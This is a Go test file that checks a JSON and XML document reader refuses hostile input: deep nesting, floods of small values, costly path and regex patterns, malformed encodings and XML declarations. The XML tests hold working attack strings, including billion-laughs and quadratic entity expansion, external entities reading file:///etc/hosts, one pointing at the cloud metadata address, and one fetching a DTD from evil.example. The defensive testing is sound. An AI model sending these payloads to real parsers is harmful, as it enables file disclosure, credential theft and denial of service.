package document

import (
	"errors"
	"fmt"
	"runtime"
	"strings"
	"testing"
)

// refusedCheaply reads a hostile body, which must fail as a whole, in plain
// words, and without much more memory than the body has.
func refusedCheaply(t *testing.T, name string, reader *Reader, body string, mostMB int, says string) {
	t.Helper()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	page, err := reader.Read([]byte(body), Limits{})
	runtime.ReadMemStats(&after)
	bad, ok := errors.AsType[*SyntaxError](err)
	if page != nil || !ok || !strings.Contains(bad.Reason, says) {
		t.Errorf("%s: %v, want %q", name, err, says)
	}
	if used := int((after.TotalAlloc - before.TotalAlloc) >> 20); used > mostMB {
		t.Errorf("%s: %d MB for a body of %d MB", name, used, len(body)>>20)
	}
}

// A14: depth costs the caller's stack in a careless reader.
func TestA14DeepJSON(t *testing.T) {
	const deep = 1_000_000
	reader := mustCompile(t, "$.items", []string{"$.total", "$.links[*].href"}, []string{"$.id", "$..x"})
	for name, body := range map[string]string{
		"arrays":         strings.Repeat("[", deep) + strings.Repeat("]", deep),
		"never closed":   strings.Repeat("[", deep),
		"objects":        strings.Repeat(`{"a":`, deep) + "1" + strings.Repeat("}", deep),
		"in an item":     `{"items":[` + strings.Repeat("[", deep) + strings.Repeat("]", deep) + `]}`,
		"in what is not": `{"other":` + strings.Repeat("[", deep) + strings.Repeat("]", deep) + `,"items":[]}`,
		"in a searched":  `{"links":` + strings.Repeat("[", deep) + strings.Repeat("]", deep) + `,"items":[]}`,
	} {
		refusedCheaply(t, name, reader, body, 16, "")
	}
}

// A15: small values cost much more memory than their bytes.
func TestA15ManySmallValues(t *testing.T) {
	many := func(value string, n int) string { return "[" + strings.Repeat(value+",", n-1) + value + "]" }
	plain := mustCompile(t, "$.items", nil, []string{"$.id"})
	for _, value := range []string{"1", "{}", "[]", `""`, "null", `{"id":1}`} {
		refusedCheaply(t, "items "+value, plain, `{"items":`+many(value, 500_000)+`}`, 128, "more than 100000 items")
	}
	// What nobody asks for costs nothing, whatever its size.
	page, err := plain.Read([]byte(`{"other":`+many("{}", 1_000_000)+`,"items":[{"id":1}]}`), Limits{})
	if err != nil || len(page.Items) != 1 {
		t.Errorf("%v", err)
	}
	// What is searched is held as a tree, so it has a limit of its own.
	for path, value := range map[string]string{"$.links[?@.rel=='next'].href": `{"rel":1}`, "$.links[*]": "1", "$..href": "{}"} {
		searched := mustCompile(t, "$.items", []string{path}, nil)
		refusedCheaply(t, path+" in "+value, searched, `{"links":`+many(value, 1_100_000)+`,"items":[]}`, 300, "too many values to search through")
	}
	chosen := mustCompile(t, "$.result[?@.uid]", nil, []string{"$.uid"})
	refusedCheaply(t, "chosen items", chosen, `{"result":`+many(`{"uid":1}`, 600_000)+`}`, 300, "too many values to search through")
	inside := mustCompile(t, "$.items", nil, []string{"$.l[*].x"})
	refusedCheaply(t, "in an item", inside, `{"items":[{"l":`+many("1", 1_100_000)+`}]}`, 300, "too many values to search through")
}

// A21: a path that would look at everything again and again is refused before
// there is a page; what is left is bounded by the size of what it searches.
func TestA21CostlyPaths(t *testing.T) {
	for _, text := range []string{"$..*..*", "$..a..b", "$..[?@..x]", "$[?@.a==$.b]", "$..*[?$..a]", "$[*,*][*,*,*,*][*,*,*,*]", "$" + strings.Repeat("[*]", 500)} {
		if path, err := ParsePath(text); err == nil {
			t.Errorf("%.60s is taken: %v", text, path)
		}
	}
	// Deep and wide: the library keeps the whole way to each node.
	wide := strings.Repeat("[", 90) + "1" + strings.Repeat(",1", 300_000) + strings.Repeat("]", 90)
	refusedCheaply(t, "deep and wide", mustCompile(t, "", []string{"$..*"}, nil), wide, 200, "too many values to search through")
	if _, err := mustCompile(t, "", []string{"$..*"}, nil).Read([]byte("[1"+strings.Repeat(",1", 100_000)+"]"), Limits{}); err != nil {
		t.Errorf("an honest list: %v", err)
	}
}

// A19: patterns in paths are written by us, compile, and stay small. The library
// would take a broken one for one that never fits, and leave out every item.
func TestA19PatternsInPaths(t *testing.T) {
	for text, says := range map[string]string{
		`$.b[?search(@.t, '[')]`:                               "function search() the pattern",
		`$.a[?match(@.t, '(')]`:                                "does not compile",
		`$.a[?search(@.t, "[")]`:                               "does not compile",
		`$.a[?match(@.t, 'a(?=b)')]`:                           "does not compile",
		`$.a[?match(@.t, '(.)\\1')]`:                           "does not compile",
		`$.a[?match(@.t, '((x{100}){100}){100}')]`:             "does not compile",
		`$.a[?match(@.t, '(x{30}){30}(y{30}){30}')]`:           "too costly",
		`$.a[?match(@.t, '` + strings.Repeat("a", 201) + `')]`: "longer than 200",
		`$.a[?match(@.t, @.p)]`:                                "in quotes",
		`$.a[?search(@.t, value(@.p))]`:                        "in quotes",
		`$.a[?match(@.t, 1)]`:                                  "in quotes",
		`$.a[?match(@.t)]`:                                     "expected 2 arguments",
		`$.a[?match(@.t, 'ok') && search(@['(,'], '(')]`:       "does not compile",
		`$.a[?@.x == 'match(' && match( @['a,b'] , ')' )]`:     "does not compile",
	} {
		if path, err := ParsePath(text); err == nil || !strings.Contains(err.Error(), says) {
			t.Errorf("%.60s: %v %v, want %q", text, path, err, says)
		}
	}
	for text, want := range map[string]string{
		`$[?match(@.t, 'it\'s "o.*"')]`:         `{"t":"it's \"ok\""}`,
		`$[?search(@.t, "\\bo\u006b\\b")]`:      `{"t":"it's \"ok\""}`,
		`$[?search(@['x,(y'], '(a|b),')]`:       `{"x,(y":"a,"}`,
		`$[?match(@.t, 'none') || @.n == "m("]`: `{"n":"m("}`,
		`$[?match(@.t, 'it|s')]`:                "", // the whole text, not one end of it
		`$[?match(@.t, 'it.{8}')]`:              "",
		`$[?match(@.none, '.*')]`:               "", // what is not there fits nothing
		`$[?search(@.t, '^.$')]`:                "",
	} {
		page, err := mustCompile(t, text, nil, nil).Read([]byte(`[{"t":"it's \"ok\""},{"x,(y":"a,"},{"n":"m("}]`), Limits{})
		if err != nil || want == "" && len(page.Items) != 0 || want != "" && (len(page.Items) != 1 || string(page.Items[0].Raw) != want) {
			t.Errorf("%s: %+v %v", text, page, err)
		}
	}
}

// A16: what cannot be read in one way only is set aside, and numbers keep every
// digit.
func TestA16AmbiguousValues(t *testing.T) {
	reader := mustCompile(t, "$.items", nil, []string{"$.id", "$.n"})
	for item, id := range map[string]string{
		`{"id":9223372036854775808}`:                          "9223372036854775808",
		`{"id":9007199254740993}`:                             "9007199254740993",
		`{"id":-0.1e-400}`:                                    "-0.1e-400",
		`{"id":1e999999999}`:                                  "1e999999999",
		`{"id":` + strings.Repeat("9", 5000) + `}`:            strings.Repeat("9", 5000),
		`{"id":"a\u0000b"}`:                                   `"a\u0000b"`,
		`{"id":"\ud83e\udd89"}`:                               `"\ud83e\udd89"`,
		`{"id":"\ufeffx"}`:                                    `"\ufeffx"`,
		`{"id":1,"__proto__":{"id":2},"constructor":{"x":1}}`: "1",
	} {
		page, err := reader.Read([]byte(`{"items":[`+item+`]}`), Limits{})
		if err != nil || page.Items[0].Err != nil || string(page.Items[0].Values[0].Raw()) != id {
			t.Errorf("%.60s: %v", item, err)
		}
	}
	for name, item := range map[string]string{
		"twice": `{"id":1,"id":2}`, "twice, escaped": `{"id":1,"\u0069d":2}`, "half a pair": `{"id":"\ud800"}`, "wrong half": `{"id":"\udc00\ud800"}`,
		"not UTF-8": "{\"id\":\"\xff\"}", "overlong": "{\"id\":\"\xc0\xaf\"}", "surrogate in UTF-8": "{\"id\":\"\xed\xa0\x80\"}", "cut character": "{\"id\":\"\xe2\x82\"}",
	} {
		page, err := reader.Read([]byte(`{"items":[{"id":"good"},`+item+`]}`), Limits{})
		if err != nil || page.Items[0].Err != nil || page.Items[1].Err == nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	for name, body := range map[string]string{
		"NaN": `{"items":[{"id":NaN}]}`, "infinity": `{"items":[{"id":-Infinity}]}`, "hex": `{"items":[{"id":0x1}]}`, "plus": `{"items":[{"id":+1}]}`, "point": `{"items":[{"id":.5}]}`,
		"NUL": "{\"items\":[{\"id\":\x00}]}", "NUL in a text": "{\"items\":[{\"id\":\"\x00\"}]}", "NUL behind": "{\"items\":[]}\x00", "two byte order marks": "\ufeff\ufeff{\"items\":[]}",
		"UTF-16": "{\x00\"\x00i\x00", "comment": `{"items":[]/**/}`, "single quotes": `{'items':[]}`, "bare name": `{items:[]}`, "trailing comma": `{"items":[],}`, "two documents": `{"items":[]}{"items":[]}`,
	} {
		if page, err := reader.Read([]byte(body), Limits{}); err == nil {
			t.Errorf("%s: %+v", name, page)
		}
	}
}

// A17: nothing a document declares is ever used, and one that declares something
// is refused.
func TestA17Declarations(t *testing.T) {
	reader := mustShape(t, Shape{Items: mustPath(t, "$.a.b"), Format: FormatXML})
	var laughs strings.Builder
	laughs.WriteString(`<!DOCTYPE a [<!ENTITY l0 "ha">`)
	for i := range 30 {
		fmt.Fprintf(&laughs, `<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	laughs.WriteString("]><a><b>&l30;</b></a>")
	for name, body := range map[string]string{
		"billion laughs": laughs.String(), "quadratic": `<!DOCTYPE a [<!ENTITY x "` + strings.Repeat("x", 1000) + `">]><a>` + strings.Repeat("&x;", 1000) + `</a>`,
		"external entity":    `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a><b>&x;</b></a>`,
		"address of a cloud": `<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/latest/">]><a><b>&x;</b></a>`,
		"parameter entity":   `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><a><b/></a>`,
		"only declared":      `<!DOCTYPE a [<!ENTITY x "y">]><a><b/></a>`, "attribute by default": `<!DOCTYPE a [<!ATTLIST b id CDATA "1">]><a><b/></a>`, "empty subset": `<!DOCTYPE a []><a><b/></a>`,
		"behind a name": `<!DOCTYPE a SYSTEM "x.dtd" [<!ENTITY x "y">]><a><b/></a>`, "entity without one": `<a><b>&x;</b></a>`, "character 0": `<a><b>&#0;</b></a>`, "character too high": `<a><b>&#x110000;</b></a>`,
	} {
		refusedCheaply(t, name, reader, body, 1, "")
	}
	for name, body := range map[string]string{
		"name only": `<!DOCTYPE a><a><b/></a>`, "with an address": `<!DOCTYPE a PUBLIC "-//NLM//DTD [x]//EN" "https://dtd.example/a.dtd"><a><b/></a>`, "the five": `<a><b>&lt;&gt;&amp;&quot;&apos;</b></a>`,
		"inclusion is an element": `<a xmlns:xi="http://www.w3.org/2001/XInclude"><b/><xi:include href="file:///etc/hosts" parse="text"/></a>`,
		"style is no order":       `<?xml-stylesheet href="http://evil.example/x.xsl"?><a><b/></a>`,
	} {
		if page, err := reader.Read([]byte(body), Limits{}); err != nil || len(page.Items) != 1 {
			t.Errorf("%s: %+v %v", name, page, err)
		}
	}
}

// A18: the standard reader has no limit to depth or number.
func TestA18LargeTrees(t *testing.T) {
	reader := mustShape(t, Shape{Items: mustPath(t, "$.a.b"), Format: FormatXML})
	refusedCheaply(t, "depth", reader, strings.Repeat("<a>", 2_000_000), 250, "nested deeper")
	limits := Limits{MaxNodes: 1000}
	for name, body := range map[string]string{
		"elements": "<a>" + strings.Repeat("<c/>", 1000) + "</a>", "attributes": `<a>` + strings.Repeat(`<c d="" e=""/>`, 400) + "</a>",
		"attributes of one": `<a><c ` + manyAttributes(1000) + `/></a>`,
	} {
		if _, err := reader.Read([]byte(body), limits); err == nil || !strings.Contains(err.Error(), "elements and attributes") {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := reader.Read([]byte("<a>"+strings.Repeat("<b/>", 900)+"</a>"), limits); err != nil {
		t.Errorf("below the limit: %v", err)
	}
}

func manyAttributes(n int) string {
	var out strings.Builder
	for i := range n {
		fmt.Fprintf(&out, `a%d="" `, i)
	}
	return out.String()
}
